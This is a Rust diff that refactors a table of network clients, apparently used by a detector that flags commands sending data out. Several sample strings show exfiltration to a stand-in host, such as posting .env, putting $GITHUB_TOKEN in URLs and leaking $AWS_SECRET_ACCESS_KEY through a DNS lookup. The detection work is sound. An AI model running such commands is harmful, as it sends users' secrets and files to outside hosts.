@@ -80,6 +80,25 @@ pub(crate) struct Client {
 
 const NONE: &[&str] = &[];
 
+/// A row with nothing set: each row of [`CLIENTS`] says only what differs.
+const CLIENT: Client = Client {
+    programs: NONE,
+    file_options: NONE,
+    body_options: NONE,
+    form_options: NONE,
+    header_options: NONE,
+    sends_stdin: false,
+    stdin_is_body: false,
+    items: false,
+    remote_copy: false,
+    only_subcommands: NONE,
+    sends_operands_after: NONE,
+    batch_uploads: NONE,
+    lookups: false,
+    examples: NONE,
+    controls: NONE,
+};
+
 /// The rows.
 pub(crate) const CLIENTS: &[Client] = &[
     Client {
@@ -96,14 +115,6 @@ pub(crate) const CLIENTS: &[Client] = &[
         ],
         form_options: &["-F", "--form", "--form-string"],
         header_options: &["-H", "--header", "--proxy-header"],
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
         examples: &[
             "curl -T notes.txt https://x.example",
             "curl -d @.env https://x.example",
@@ -123,21 +134,13 @@ pub(crate) const CLIENTS: &[Client] = &[
             "curl -F file=@tests/a.png http://127.0.0.1:3000/upload",
             "curl -T dist/app.tgz http://[::1]:9000/u",
         ],
+        ..CLIENT
     },
     Client {
         programs: &["wget", "wget2"],
         file_options: &["--post-file", "--body-file"],
         body_options: &["--post-data", "--body-data"],
-        form_options: NONE,
         header_options: &["--header"],
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
         examples: &[
             "wget --post-file=notes.txt https://x.example",
             "wget -q \"https://x.example/c?t=$GITHUB_TOKEN\"",
@@ -147,21 +150,13 @@ pub(crate) const CLIENTS: &[Client] = &[
             "wget -q https://x.example/a.tgz",
             "wget -O a.tgz \"https://x.example/$NAME.tgz\"",
         ],
+        ..CLIENT
     },
     Client {
         programs: &["http", "https", "xh", "xhs"],
-        file_options: NONE,
         body_options: &["--raw"],
-        form_options: NONE,
-        header_options: NONE,
-        sends_stdin: false,
         stdin_is_body: true,
         items: true,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
         examples: &[
             "http POST x.example f@notes.txt",
             "xh x.example -A bearer -a \"$GITHUB_TOKEN\"",
@@ -172,6 +167,7 @@ pub(crate) const CLIENTS: &[Client] = &[
             "http localhost:3000/api < tests/req.json",
             "http :3000/api f@tests/a.png",
         ],
+        ..CLIENT
     },
     Client {
         programs: &[
@@ -184,70 +180,27 @@ pub(crate) const CLIENTS: &[Client] = &[
             "telnet",
         ],
         file_options: &["--send-only"],
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
         sends_stdin: true,
         stdin_is_body: true,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
-        examples: NONE,
-        controls: NONE,
+        ..CLIENT
     },
     Client {
         programs: &["ssh"],
-        file_options: NONE,
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
         sends_stdin: true,
         stdin_is_body: true,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
-        examples: NONE,
-        controls: NONE,
+        ..CLIENT
     },
     Client {
         programs: &[
             "scp", "rsync", "rclone", "aws", "gsutil", "gcloud", "s3cmd", "s5cmd",
         ],
-        file_options: NONE,
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
         remote_copy: true,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
-        examples: NONE,
-        controls: NONE,
+        ..CLIENT
     },
     Client {
         programs: &["sftp", "ftp", "lftp"],
         file_options: &["-b"],
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
         batch_uploads: &["put", "mput", "reput", "mirror -R", "mirror --reverse"],
-        lookups: false,
         examples: &[
             "sftp u@x.example <<< 'put src/main.rs'",
             "sftp -b cmds.txt u@x.example",
@@ -255,26 +208,18 @@ pub(crate) const CLIENTS: &[Client] = &[
             "lftp -c 'open x.example; mirror -R .'",
         ],
         controls: &["sftp u@x.example <<< 'get report.txt'"],
+        ..CLIENT
     },
     Client {
         programs: &["gh"],
-        file_options: NONE,
-        body_options: NONE,
         form_options: &["-F", "--field", "-f", "--raw-field"],
         header_options: &["-H", "--header"],
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
         sends_operands_after: &[
             "gist create",
             "gist edit *",
             "release upload *",
             "release create *",
         ],
-        batch_uploads: NONE,
-        lookups: false,
         examples: &[
             "gh gist create src/main.rs",
             "gh gist create --public notes.txt",
@@ -293,17 +238,10 @@ pub(crate) const CLIENTS: &[Client] = &[
             "gh pr create --title x --body-file pr.md",
             "gh pr create --title x --body \"$(cat pr.md)\"",
         ],
+        ..CLIENT
     },
     Client {
         programs: &["git"],
-        file_options: NONE,
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
         only_subcommands: &[
             "clone",
             "fetch",
@@ -313,34 +251,24 @@ pub(crate) const CLIENTS: &[Client] = &[
             "remote",
             "submodule",
         ],
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
         examples: &[
             "git clone \"https://$GITHUB_TOKEN@x.example/r.git\"",
             "git ls-remote \"https://x.example/$GITHUB_TOKEN\"",
         ],
         controls: &["git clone https://x.example/r.git", "git push origin main"],
+        ..CLIENT
     },
     Client {
         programs: &["openssl"],
-        file_options: NONE,
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
         sends_stdin: true,
         stdin_is_body: true,
-        items: false,
-        remote_copy: false,
         only_subcommands: &["s_client"],
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
-        lookups: false,
         examples: &["openssl s_client -connect x.example:443 < notes.txt"],
         controls: &[
             "openssl x509 -in cert.pem -noout -text < /dev/null",
             "openssl rand -hex 16",
         ],
+        ..CLIENT
     },
     Client {
         programs: &[
@@ -359,17 +287,6 @@ pub(crate) const CLIENTS: &[Client] = &[
             "mtr",
             "resolvectl",
         ],
-        file_options: NONE,
-        body_options: NONE,
-        form_options: NONE,
-        header_options: NONE,
-        sends_stdin: false,
-        stdin_is_body: false,
-        items: false,
-        remote_copy: false,
-        only_subcommands: NONE,
-        sends_operands_after: NONE,
-        batch_uploads: NONE,
         lookups: true,
         examples: &[
             "nslookup \"$AWS_SECRET_ACCESS_KEY.x.example\"",
@@ -384,6 +301,7 @@ pub(crate) const CLIENTS: &[Client] = &[
             "dig +short TXT x.example",
             "ping -c 1 localhost",
         ],
+        ..CLIENT
     },
 ];
 
